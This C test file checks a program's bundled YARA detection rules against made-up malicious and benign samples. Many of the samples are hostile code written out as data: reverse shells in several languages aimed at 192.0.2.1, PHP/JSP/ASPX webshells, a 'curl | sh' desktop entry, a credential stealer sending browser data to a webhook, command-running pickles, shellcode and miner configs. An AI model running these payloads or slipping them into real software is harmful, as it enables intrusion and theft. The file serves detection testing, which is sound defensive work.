/*
 * The YARA rules that come with the program (rules/yara): each fires on what it is for
 * and keeps quiet on what looks like it.  The samples are made here; addresses are those
 * that documentation is to use (192.0.2.0/24, example.com).
 */
#include <dirent.h>

#include "core/buf.h"
#include "tests/check.h"
#include "tests/yara_judge.h"

static struct yara_judge *judge;

static bool
fires(const char *rule, const char *file, const void *bytes, size_t n)
{
	const char *dot = strrchr(file, '.');
	struct yara_judge_names names = { .filename = file,
		.filepath = file,
		.extension = dot != NULL ? dot : "" };
	size_t count = yara_judge_count(judge);
	uint8_t *holds = malloc(count);
	bool is = false, known = false;

	CHECK_INT(yara_judge_scan(judge, bytes, n, &names, 30, holds, NULL), 0);
	for (size_t i = 0; i < count; i++)
		if (strcmp(yara_judge_name(judge, i), rule) == 0) {
			known = true;
			is = holds[i] != 0;
		}
	free(holds);
	if (!known)
		printf("# no rule %s\n", rule);
	CHECK(known);
	return is;
}

struct sample {
	const char *rule, *file, *text;
	bool bad;
};

#define WALLET                                                                           \
	"4"                                                                              \
	"8edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwE"       \
	"VsaSWJ4fhdUyZijBGUicoD"

static const struct sample samples[] = {
	{ "pan_miner_config", "config.json",
	    "{ \"donate-level\": 1, \"pools\": [ { \"algo\": \"rx/0\", \"url\": "
	    "\"pool.example.com:3333\", \"user\": \"" WALLET "\" } ] }",
	    true },
	{ "pan_miner_config", "config.json",
	    "{ \"url\": \"https://example.com:8443/api\", \"user\": \"anna\" }", false },
	{ "pan_miner_config", "db.json",
	    "{ \"url\": \"db.example.com:5432\", \"user\": \"app\", \"pool\": 4 }",
	    false },
	{ "pan_miner_start", "run.sh",
	    "#!/bin/sh\n./xmrig -o pool.example.com:3333 -u " WALLET " -p x &\n", true },
	{ "pan_miner_start", "go.sh",
	    "#!/bin/sh\n/tmp/.d --url=stratum+tcp://192.0.2.7:80 --user=x\n", true },
	{ "pan_miner_start", "run.sh",
	    "#!/bin/sh\n# we look for xmrig and stop it\npkill xmrig\ncurl -o out "
	    "https://example.com:8443/x\n",
	    false },

	{ "pan_reverse_shell_script", "a.sh",
	    "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", true },
	{ "pan_reverse_shell_script", "a.sh", "nc 192.0.2.1 4444 -e /bin/sh\n", true },
	{ "pan_reverse_shell_script", "a.sh",
	    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 9 >/tmp/f\n",
	    true },
	{ "pan_reverse_shell_script", "a.sh",
	    "#!/bin/sh\nsocat exec:'bash -li',pty,stderr tcp:192.0.2.1:4444\n", true },
	{ "pan_reverse_shell_script", "wait.sh",
	    "#!/bin/bash\nwhile ! (echo > /dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; "
	    "done\nnc -z localhost 80\n",
	    false },
	{ "pan_reverse_shell_script", "notes.txt", "bash -i >& /dev/tcp/192.0.2.1/1 0>&1",
	    false },
	{ "pan_reverse_shell_python", "a.py",
	    "import socket,os,pty\ns=socket.socket()\ns.connect((\"192.0.2.1\",9001))\n"
	    "[os.dup2(s.fileno(),f) for f in (0,1,2)]\nos.dup2(s.fileno(),0)\n"
	    "pty.spawn(\"/bin/sh\")\n",
	    true },
	{ "pan_reverse_shell_python", "a.py",
	    "import socket, subprocess\ns = socket.socket()\ns.connect((\"db\", 5432))\n"
	    "subprocess.run([\"/bin/sh\", \"build.sh\"])\n",
	    false },
	{ "pan_reverse_shell_other", "a.ps1",
	    "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',443);"
	    "$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};"
	    "while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$r = (iex $d 2>&1 | Out-String);"
	    "$s.Write($o,0,$o.Length)}",
	    true },
	{ "pan_reverse_shell_other", "port.ps1",
	    "$c = New-Object System.Net.Sockets.TCPClient('example.com',443)\n"
	    "if ($c.Connected) { 'open' }\n",
	    false },
	{ "pan_reverse_shell_other", "a.js",
	    "const n=require('net'),c=require('child_process');const sh=c.spawn('/bin/sh',[]);"
	    "const k=new n.Socket();k.connect(4444,'192.0.2.1',()=>{k.pipe(sh.stdin);"
	    "sh.stdout.pipe(k)});",
	    true },
	{ "pan_reverse_shell_other", "db.js",
	    "const k = net.connect(5432, 'db.example.com'); k.pipe(process.stdout);",
	    false },
	{ "pan_reverse_shell_other", "a.pl",
	    "use Socket;connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");"
	    "open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");",
	    true },

	{ "pan_webshell_php", "a.php", "<?php @eval($_POST['c']);", true },
	{ "pan_webshell_php", "a.php", "<?=system(base64_decode($_GET[0]))?>", true },
	{ "pan_webshell_php", "a.php", "<?php $_GET['a']($_GET['b']);", true },
	{ "pan_webshell_php", "form.php",
	    "<?php $name = htmlspecialchars($_POST['name']); system('uptime');", false },
	{ "pan_webshell_jsp", "a.jsp",
	    "<%@ page import=\"java.io.*\"%><% Process p = "
	    "Runtime.getRuntime().exec(request.getParameter(\"c\")); "
	    "InputStream i = p.getInputStream(); %>",
	    true },
	{ "pan_webshell_jsp", "form.jsp", "<% String n = request.getParameter(\"n\"); %>",
	    false },
	{ "pan_webshell_aspx", "a.aspx",
	    "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>",
	    true },
	{ "pan_webshell_aspx", "a.asp",
	    "<% Set s = CreateObject(\"WScript.Shell\"): s.Exec(Request(\"c\")) %>"
	    "<% x = Request.QueryString(\"c\") %>",
	    true },
	{ "pan_webshell_aspx", "form.aspx", "<% Response.Write(Request.Form(\"n\")) %>",
	    false },

	{ "pan_desktop_entry", "x.desktop",
	    "[Desktop Entry]\nType=Application\nExec=sh -c 'curl -s http://192.0.2.1/a | sh'\n",
	    true },
	{ "pan_desktop_entry", "x.desktop", "[Desktop Entry]\nExec=/tmp/.cache-x\n",
	    true },
	{ "pan_desktop_entry", "app.desktop",
	    "[Desktop Entry]\nType=Application\nExec=/usr/bin/gedit %U\n", false },

	{ "pan_preload_install", "a.sh",
	    "#!/bin/sh\ncp x.so /usr/lib/x.so\necho /usr/lib/x.so > /etc/ld.so.preload\n",
	    true },
	{ "pan_preload_install", "a.sh", "#!/bin/sh\ncat /etc/ld.so.preload\n", false },

	{ "pan_office_field", "a.xml",
	    "<?xml version=\"1.0\"?><w:document><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "
	    "</w:instrText>",
	    true },
	{ "pan_office_field", "a.xml",
	    "<?xml version=\"1.0\"?><w:document><w:t>DDE is an old protocol</w:t>",
	    false },
	{ "pan_office_field", "a.slk",
	    "ID;P\nO;E\nNN;NAuto_open;ER1\nC;X1;Y1;EEXEC(\"calc\")", true },

	{ "pan_stealer", "a.py",
	    "p = home + '/AppData/Local/Google/Chrome/User Data'\n"
	    "files = ['Login Data', 'Local State', 'key4.db', 'wallet.dat']\n"
	    "requests.post('https://discord.com/api/webhooks/123/abc', files=f)\n",
	    true },
	{ "pan_stealer", "backup.py",
	    "# copies the browser's 'Login Data' and 'Local State' to a disk of yours\n"
	    "for f in ('Login Data', 'Local State', 'key4.db', 'logins.json'): copy(f)\n",
	    false },
	{ "pan_stealer", "notify.py",
	    "requests.post('https://discord.com/api/webhooks/123/abc', json={'a': 'Login Data'})",
	    false },
};

TEST(texts_are_told_apart)
{
	for (size_t i = 0; i < sizeof samples / sizeof samples[0]; i++) {
		const struct sample *s = &samples[i];

		if (fires(s->rule, s->file, s->text, strlen(s->text)) != s->bad) {
			CHECK_FAIL_("%s on sample %zu: %s", s->rule, i, s->text);
		}
	}
}

/* ---- bytes ---- */

static void
put(uint8_t *to, size_t at, const void *bytes, size_t n)
{
	memcpy(to + at, bytes, n);
}

#define PUT(to, at, text) put(to, at, text, sizeof(text) - 1)

static const uint8_t elf_head[] = { 0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0,
	0, 2, 0, 62, 0, 1 };

TEST(pickles_that_call_are_told_apart)
{
	static const char zero[] = "cos\nsystem\n(S'id'\ntR.";
	static const char four[] =
	    "\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c"
	    "\x02id\x94\x85\x94R\x94.";
	static const char two[] = "\x80\x02"
	                          "c__builtin__\neval\nq\x01X\x01\0\0\0"
	                          "1q\x02R.";
	static const char data[] =
	    "\x80\x04\x95\x1d\0\0\0\0\0\0\0}\x94\x8c\x02os\x94\x8c\x05linux\x94s.";
	static const char state[] = "\x80\x02"
	                            "ccollections\nOrderedDict\nq\0)R.";

	CHECK(fires("pan_pickle_command", "m.pkl", zero, sizeof zero - 1));
	CHECK(fires("pan_pickle_command", "m.pkl", four, sizeof four - 1));
	CHECK(fires("pan_pickle_command", "m.pkl", two, sizeof two - 1));
	CHECK(!fires("pan_pickle_command", "m.pkl", data, sizeof data - 1));
	CHECK(!fires("pan_pickle_command", "m.pkl", state, sizeof state - 1));
	CHECK(!fires("pan_pickle_command", "m.txt", "to do:\ncos\nsin\n", 15));
}

TEST(programs_that_become_a_shell_are_told_apart)
{
	static const uint8_t code[] = { 0x6a, 0x29, 0x58, 0x99, 0x6a, 0x02, 0x5f, 0x6a,
		0x01, 0x5e, 0x0f, 0x05, 0x97, 0x48, 0xb9, 0x02, 0x00, 0x11, 0x5c, 0xc0,
		0x00, 0x02, 0x01, 0x51, 0x48, 0x89, 0xe6, 0x6a, 0x10, 0x5a, 0x6a, 0x2a,
		0x58, 0x0f, 0x05, 0x6a, 0x03, 0x5e, 0x48, 0xff, 0xce, 0x6a, 0x21, 0x58,
		0x0f, 0x05 };
	uint8_t file[400] = { 0 };

	put(file, 0, elf_head, sizeof elf_head);
	CHECK(!fires("pan_reverse_shell_program", "a", file, sizeof file));
	put(file, 120, code, sizeof code);
	CHECK(fires("pan_reverse_shell_program", "a", file, sizeof file));
}

TEST(programs_with_a_miners_words_are_told_apart)
{
	uint8_t file[4096] = { 0 };

	put(file, 0, elf_head, sizeof elf_head);
	PUT(file, 500, "stratum+tcp://");
	PUT(file, 600, "mining.submit");
	CHECK(!fires("pan_miner_program", "a", file, sizeof file));
	PUT(file, 700, "XMRig 6.21");
	PUT(file, 800, "RandomX");
	CHECK(fires("pan_miner_program", "a", file, sizeof file));
}

TEST(shortcuts_that_run_commands_are_told_apart)
{
	static const uint8_t head[] = { 0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0,
		0, 0, 0, 0, 0, 0x46 };
	uint8_t file[1024] = { 0 };

	put(file, 0, head, sizeof head);
	PUT(file, 100, "C:\\Windows\\notepad.exe");
	CHECK(!fires("pan_windows_shortcut", "a.lnk", file, sizeof file));
	PUT(file, 200, "p\0o\0w\0e\0r\0s\0h\0e\0l\0l\0");
	PUT(file, 300, "-\0w\0 \0h\0i\0d\0d\0e\0n\0 \0i\0e\0x\0 \0");
	CHECK(fires("pan_windows_shortcut", "a.lnk", file, sizeof file));
}

TEST(libraries_that_hide_are_told_apart)
{
	uint8_t file[4096] = { 0 };

	put(file, 0, elf_head, sizeof elf_head);
	file[16] = 3;
	PUT(file, 500, "/etc/ld.so.preload");
	PUT(file, 600, "dlsym");
	PUT(file, 700, "/proc/net/tcp");
	PUT(file, 800, "readdir64");
	CHECK(!fires("pan_preload_rootkit", "a.so", file, sizeof file));
	PUT(file, 900, "__lxstat");
	PUT(file, 1000, "fopen64");
	CHECK(fires("pan_preload_rootkit", "a.so", file, sizeof file));
}

TEST(packed_and_hidden_programs_are_told_apart)
{
	uint8_t file[8192] = { 0 };
	char text[700];
	size_t n;

	put(file, 0, elf_head, sizeof elf_head);
	PUT(file, 240, "UPX!");
	CHECK(!fires("pan_packed_program", "a", file, sizeof file));
	PUT(file, sizeof file - 36, "UPX!");
	CHECK(fires("pan_packed_program", "a", file, sizeof file));

	n = (size_t)snprintf(text, sizeof text, "x = '");
	n += (size_t)snprintf(text + n, sizeof text - n, "f0VMRgIBAQ");
	memset(text + n, 'A', 300);
	memcpy(text + n + 300, "'\n", 3);
	CHECK(fires("pan_program_as_text", "a.py", text, n + 302));
	CHECK(!fires("pan_program_as_text", "a.py", text, 60));

	memset(file, 0, sizeof file);
	PUT(file, 0, "\x89PNG\r\n\x1a\n");
	PUT(file, 2000 + 78, "This program cannot be run in DOS mode");
	CHECK(!fires("pan_program_behind_picture", "a.png", file, sizeof file));
	PUT(file, 2000, "MZ");
	CHECK(fires("pan_program_behind_picture", "a.png", file, sizeof file));
}

TEST(macros_that_start_themselves_are_told_apart)
{
	uint8_t file[4096] = { 0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1 };

	PUT(file, 600, "_VBA_PROJECT");
	PUT(file, 700, "Sub Workbook_Open()");
	CHECK(!fires("pan_office_autorun", "a.xls", file, sizeof file));
	PUT(file, 900, "CreateObject(\"WScript.Shell\")");
	CHECK(fires("pan_office_autorun", "a.xls", file, sizeof file));
}

TEST(every_rule_says_what_a_report_needs)
{
	size_t n = yara_judge_count(judge), seen = 0;

	for (size_t i = 0; i < n; i++) {
		const char *name = yara_judge_name(judge, i);

		CHECK(strncmp(name, "pan_", 4) == 0);
		if (!yara_judge_private(judge, i))
			seen++;
	}
	CHECK(seen > 15);
}

/* Programs of this machine are ordinary ones. */
TEST(ordinary_programs_are_left_alone)
{
	size_t count = yara_judge_count(judge), looked = 0;
	uint8_t *holds = malloc(count);
	uint8_t *bytes = malloc(4 << 20);
	DIR *d = opendir("/usr/bin");
	const struct dirent *e;

	while (d != NULL && (e = readdir(d)) != NULL && looked < 400) {
		char path[400];
		FILE *f;
		size_t n;

		(void)snprintf(path, sizeof path, "/usr/bin/%s", e->d_name);
		f = e->d_name[0] == '.' ? NULL : fopen(path, "re");
		if (f == NULL)
			continue;
		n = fread(bytes, 1, 4 << 20, f);
		(void)fclose(f);
		looked++;
		CHECK_INT(yara_judge_scan(judge, bytes, n, NULL, 30, holds, NULL), 0);
		for (size_t i = 0; i < count; i++)
			if (holds[i] && !yara_judge_private(judge, i)) {
				CHECK_FAIL_("%s fires on %s", yara_judge_name(judge, i),
				    path);
			}
	}
	if (d != NULL)
		(void)closedir(d);
	free(bytes);
	free(holds);
	printf("# %zu files\n", looked);
}

int
main(void)
{
	size_t refused = 0;

	judge = yara_judge_new();
	if (yara_judge_folder(judge, "rules/yara", &refused) == 0 || refused > 0) {
		printf("Bail out! rules/yara: %s\n", yara_judge_why(judge));
		return 1;
	}
	RUN(texts_are_told_apart);
	RUN(pickles_that_call_are_told_apart);
	RUN(programs_that_become_a_shell_are_told_apart);
	RUN(programs_with_a_miners_words_are_told_apart);
	RUN(shortcuts_that_run_commands_are_told_apart);
	RUN(libraries_that_hide_are_told_apart);
	RUN(packed_and_hidden_programs_are_told_apart);
	RUN(macros_that_start_themselves_are_told_apart);
	RUN(every_rule_says_what_a_report_needs);
	RUN(ordinary_programs_are_left_alone);
	yara_judge_free(judge);
	return DONE();
}
